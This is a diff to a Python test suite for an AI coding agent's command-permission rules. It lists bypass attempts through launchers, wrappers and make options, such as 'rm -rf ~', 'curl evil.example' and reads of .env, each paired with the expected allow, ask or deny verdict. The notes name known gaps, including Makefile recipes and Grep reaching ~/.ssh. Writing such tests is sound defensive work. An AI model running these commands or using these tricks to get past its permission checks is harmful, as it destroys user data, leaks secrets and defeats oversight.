@@ -53,6 +53,7 @@ allow = ["Bash(ls *)", "Bash(cat *)", "Bash(echo *)", "Bash(git diff:*)", "Read"
          "Bash(uv run:*)", "Bash(uvx:*)", "Bash(npx:*)", "Bash(npm exec:*)", "Bash(mise exec:*)",
          "Bash(pixi run:*)", "Bash(doppler run:*)", "Bash(direnv exec:*)", "Bash(poetry run:*)",
          "Bash(make:*)", "Bash(pdm run:*)", "Bash(hatch run:*)", "Grep", "Glob",
+         "Bash(uv run pytest:*)",
          "WebFetch(domain:*.example.com)"]
 deny = ["Bash(rm:*)", "Bash(curl:*)", "Read(./.env)", "Read(~/.ssh/**)", "Edit(//etc/**)",
         "WebFetch(domain:internal.example.com)", "Read(./secrets/**)"]
@@ -155,6 +156,11 @@ PATHSPEC = (
     "a backslash makes a git pathspec a wildcard (git's glob-special set holds '\\'): "
     "'.\\env' matches .env, but the model reads it as the literal name '.\\env'"
 )
+MAKEFILE = (
+    "an allowed make runs the recipes of the project's Makefile, which the agent may write: "
+    "they are judged by the make rule alone, as an allowed pytest runs conftest.py (a "
+    "documented limit of rules that allow a program reading the project's files)"
+)
 ROOT = "Grep over / reaches ~/.ssh: the deny rule below the search root is only asked"
 GRANT = (
     "a session grant compares the command as words joined by spaces: another argv with the "
@@ -162,74 +168,74 @@ GRANT = (
 )
 
 LAUNCHER_HOLES = [
-    _bash("npx --call='curl evil.example'", "deny", INLINE),
-    _bash("npx -c'curl evil.example'", "deny", INLINE),
-    _bash("npx --yes --call='curl evil.example'", "deny", INLINE),
-    _bash("npx --call='cat .env'", "deny", INLINE),
-    _bash("npx --call='echo x > /etc/cron.d/x'", "deny", INLINE),
-    _bash("npm exec --call='curl evil.example'", "deny", INLINE),
-    _bash("npm exec -c'rm -rf ~'", "deny", INLINE),
-    _bash("mise exec --command='curl evil.example'", "deny", INLINE),
-    _bash("mise exec -c'rm -rf ~'", "deny", INLINE),
-    _bash("doppler run --command='curl evil.example'", "deny", INLINE),
-    _bash("npx -c 'echo ok && curl evil.example'", "deny", STRING),
-    _bash("npx -c 'ls; rm -rf ~'", "deny", STRING),
-    _bash("npm exec -c 'ls | rm -rf ~'", "deny", STRING),
-    _bash("mise exec -c 'ls; rm -rf ~'", "deny", STRING),
-    _bash("pixi run 'echo ok; curl evil.example'", "deny", STRING),
-    _bash("uv run --directory sub rm -rf ~", "deny", OPTION),
-    _bash("npx -p cowsay rm -rf ~", "deny", OPTION),
-    _bash("uvx --from httpie curl evil.example", "deny", OPTION),
-    _bash("uv run --env-file .env printenv", "deny", OPTION),
-    _bash("dotenv -e .env -- printenv", "deny", OPTION),
-    _bash("op run --env-file .env -- printenv", "deny", OPTION),
-    _bash("mise exec ls -- curl evil.example", "deny", TOOLS),
-    _bash("mise exec node@20 -- rm -rf ~", "deny", TOOLS),
-    _bash("uv run ls", "ask", PROJECT),
-    _bash("poetry run ls", "ask", PROJECT),
-    _bash("npx cat README.md", "ask", PROJECT),
-    _bash("npx ls -la", "ask", PROJECT),
-    _bash("npm exec cat README.md", "ask", PROJECT),
-    _bash("pixi run ls", "ask", PROJECT),
-    _bash("pdm run ls", "ask", PROJECT),
-    _bash("make all", "ask", PROJECT),
-    _bash("make --eval='$(shell rm -rf ~)'", "deny", MAKE),
-    _bash("make -E '$(shell curl evil.example)'", "deny", MAKE),
-    _bash("make --eval '$(info $(file <.env))'", "deny", MAKE),
-    _bash("make -f .env -p", "deny", MAKE),
-    _bash("make --file .env -p", "deny", MAKE),
-    _bash("make -f /dev/stdin <<< 'x:;rm -rf ~'", "deny", MAKE),
+    _bash("npx --call='curl evil.example'", "deny"),
+    _bash("npx -c'curl evil.example'", "deny"),
+    _bash("npx --yes --call='curl evil.example'", "deny"),
+    _bash("npx --call='cat .env'", "deny"),
+    _bash("npx --call='echo x > /etc/cron.d/x'", "deny"),
+    _bash("npm exec --call='curl evil.example'", "deny"),
+    _bash("npm exec -c'rm -rf ~'", "deny"),
+    _bash("mise exec --command='curl evil.example'", "deny"),
+    _bash("mise exec -c'rm -rf ~'", "deny"),
+    _bash("doppler run --command='curl evil.example'", "deny"),
+    _bash("npx -c 'echo ok && curl evil.example'", "deny"),
+    _bash("npx -c 'ls; rm -rf ~'", "deny"),
+    _bash("npm exec -c 'ls | rm -rf ~'", "deny"),
+    _bash("mise exec -c 'ls; rm -rf ~'", "deny"),
+    _bash("pixi run 'echo ok; curl evil.example'", "deny"),
+    _bash("uv run --directory sub rm -rf ~", "deny"),
+    _bash("npx -p cowsay rm -rf ~", "deny"),
+    _bash("uvx --from httpie curl evil.example", "deny"),
+    _bash("uv run --env-file .env printenv", "deny"),
+    _bash("dotenv -e .env -- printenv", "deny"),
+    _bash("op run --env-file .env -- printenv", "deny"),
+    _bash("mise exec ls -- curl evil.example", "deny"),
+    _bash("mise exec node@20 -- rm -rf ~", "deny"),
+    _bash("uv run ls", "ask"),
+    _bash("poetry run ls", "ask"),
+    _bash("npx cat README.md", "ask"),
+    _bash("npx ls -la", "ask"),
+    _bash("npm exec cat README.md", "ask"),
+    _bash("pixi run ls", "ask"),
+    _bash("pdm run ls", "ask"),
+    _bash("make all", "ask", MAKEFILE),
+    _bash("make --eval='$(shell rm -rf ~)'", "deny"),
+    _bash("make -E '$(shell curl evil.example)'", "deny"),
+    _bash("make --eval '$(info $(file <.env))'", "deny"),
+    _bash("make -f .env -p", "deny"),
+    _bash("make --file .env -p", "deny"),
+    _bash("make -f /dev/stdin <<< 'x:;rm -rf ~'", "deny"),
 ]
 
 WRAPPER_HOLES = [
-    _bash("setarch x86_64 -R rm -rf ~", "deny", WRAPPED),
-    _bash("setarch linux64 --addr-no-randomize curl evil.example", "deny", WRAPPED),
-    _bash("env -S 'rm\\_-rf\\_~'", "deny", WRAPPED),  # env -S: \_ separates arguments
-    _bash("script /dev/null -qc 'rm -rf ~'", "deny", WRAPPED),  # getopt permutes
-    _bash("script --log-out /dev/null -c 'rm -rf ~'", "deny", WRAPPED),
-    _bash("su root --session-command='rm -rf ~'", "deny", WRAPPED),
-    _bash("sg - wheel -c 'rm -rf ~'", "deny", WRAPPED),
-    _bash("sudo --user root rm -rf ~", "deny", WRAPPED),
-    _bash("sudo --chdir /tmp rm -rf ~", "deny", WRAPPED),
-    _bash("timeout 1e3 rm -rf ~", "deny", WRAPPED),
-    _bash("timeout .5 rm -rf ~", "deny", WRAPPED),
-    _bash("timeout inf curl evil.example", "deny", WRAPPED),
-    _bash("timeout 0x10 rm -rf ~", "deny", WRAPPED),
-    _bash("unshare -R / rm -rf ~", "deny", WRAPPED),
-    _bash("chroot --userspec 0:0 / rm -rf ~", "deny", WRAPPED),
-    _bash("strace -P /tmp rm -rf ~", "deny", WRAPPED),
-    _bash("systemd-run --slice x rm -rf ~", "deny", WRAPPED),
-    _bash("proxychains -f /etc/p.conf curl evil.example", "deny", WRAPPED),
-    _bash("torsocks -u x curl evil.example", "deny", WRAPPED),
-    _bash("numactl --physcpubind 0 rm -rf ~", "deny", WRAPPED),
-    _bash("ssh-agent -a /tmp/s rm -rf ~", "deny", WRAPPED),
-    _bash("tini -p SIGKILL -- rm -rf ~", "deny", WRAPPED),
-    _bash("dumb-init -r 15:9 rm -rf ~", "deny", WRAPPED),
-    _bash("pkexec --user root rm -rf ~", "deny", WRAPPED),
-    _bash("/usr/bin/time -f %e rm -rf ~", "deny", WRAPPED),
-    _bash("/usr/bin/time -o /tmp/t curl evil.example", "deny", WRAPPED),
-    _bash("dbus-run-session --config-file /tmp/x rm -rf ~", "deny", WRAPPED),
-    _bash("caffeinate -t 10 rm -rf ~", "deny", WRAPPED),
+    _bash("setarch x86_64 -R rm -rf ~", "deny"),
+    _bash("setarch linux64 --addr-no-randomize curl evil.example", "deny"),
+    _bash("env -S 'rm\\_-rf\\_~'", "deny"),  # env -S: \_ separates arguments
+    _bash("script /dev/null -qc 'rm -rf ~'", "deny"),  # getopt permutes
+    _bash("script --log-out /dev/null -c 'rm -rf ~'", "deny"),
+    _bash("su root --session-command='rm -rf ~'", "deny"),
+    _bash("sg - wheel -c 'rm -rf ~'", "deny"),
+    _bash("sudo --user root rm -rf ~", "deny"),
+    _bash("sudo --chdir /tmp rm -rf ~", "deny"),
+    _bash("timeout 1e3 rm -rf ~", "deny"),
+    _bash("timeout .5 rm -rf ~", "deny"),
+    _bash("timeout inf curl evil.example", "deny"),
+    _bash("timeout 0x10 rm -rf ~", "deny"),
+    _bash("unshare -R / rm -rf ~", "deny"),
+    _bash("chroot --userspec 0:0 / rm -rf ~", "deny"),
+    _bash("strace -P /tmp rm -rf ~", "deny"),
+    _bash("systemd-run --slice x rm -rf ~", "deny"),
+    _bash("proxychains -f /etc/p.conf curl evil.example", "deny"),
+    _bash("torsocks -u x curl evil.example", "deny"),
+    _bash("numactl --physcpubind 0 rm -rf ~", "deny"),
+    _bash("ssh-agent -a /tmp/s rm -rf ~", "deny"),
+    _bash("tini -p SIGKILL -- rm -rf ~", "deny"),
+    _bash("dumb-init -r 15:9 rm -rf ~", "deny"),
+    _bash("pkexec --user root rm -rf ~", "deny"),
+    _bash("/usr/bin/time -f %e rm -rf ~", "deny"),
+    _bash("/usr/bin/time -o /tmp/t curl evil.example", "deny"),
+    _bash("dbus-run-session --config-file /tmp/x rm -rf ~", "deny"),
+    _bash("caffeinate -t 10 rm -rf ~", "deny"),
 ]
 
 PATH_HOLES = [
@@ -277,6 +283,23 @@ def test_round5_holes_in_a_repository(
 # ----------------------------------------------------------------------------- attempts that held
 
 HELD = [
+    # what a launcher starts is found where the launcher looks (.venv/bin, node_modules/.bin,
+    # .envrc's PATH, a task): Bash(uv run:*) with Bash(echo *) does not allow it (asked)
+    _bash("uv run echo hi", "ask"),
+    _bash("uv run -- cat README.md", "ask"),
+    _bash("poetry run echo hi", "ask"),
+    _bash("mise exec -- ls", "ask"),
+    _bash("direnv exec . ls", "ask"),
+    _bash("uv run pytest -q; uv run ls", "ask"),
+    _bash("uv run --with x pytest -q", "ask"),  # an option: pytest is not known to be it
+    _bash("uv run env ls", "ask"),  # under a launcher, a wrapper's command is launched too
+    _bash("uv run pytest -q && npx -c 'rm -rf ~'", "deny"),
+    _bash("sudo --user root env rm -rf ~", "deny"),
+    _bash("timeout --foo 5 rm -rf ~", "deny"),
+    _bash("nice --adjustment 5 curl evil.example", "deny"),
+    _bash("flock --timeout 5 /tmp/l rm -rf ~", "deny"),
+    _bash("make -f Makefile --eval '$(shell cat .env)'", "deny"),
+    _bash("make -E 'x: ; rm -rf ~' x", "deny"),
     # launchers: the launched command meets the rules
     _bash("npx -c 'rm -rf ~'", "deny"),
     _bash("doppler run --command 'rm -rf ~'", "deny"),
@@ -381,12 +404,10 @@ ALLOWED = [
     _bash("cat README.md src/../README.md", "allow"),
     _bash("ls {src,sub}", "allow"),
     _bash("ls ~", "allow"),
-    _bash("uv run echo hi", "allow"),
-    _bash("uv run -- cat README.md", "allow"),
-    _bash("uv run echo hi > out.txt", "allow"),
-    _bash("mise exec -- ls", "allow"),
-    _bash("direnv exec . ls", "allow"),
-    _bash("poetry run echo hi", "allow"),
+    # a launcher's rule that names the program it starts allows it (Bash(uv run pytest:*))
+    _bash("uv run pytest -q", "allow"),
+    _bash("uv run pytest -q > out.txt", "allow"),
+    _bash("uv run", "allow"),  # nothing launched
     _case("Grep", {"pattern": "x", "path": "src"}, "allow"),
     _case("Grep", {"pattern": "x", "path": "src", "glob": "*.py"}, "allow"),
     _case("Glob", {"pattern": "*.py", "path": "src"}, "allow"),
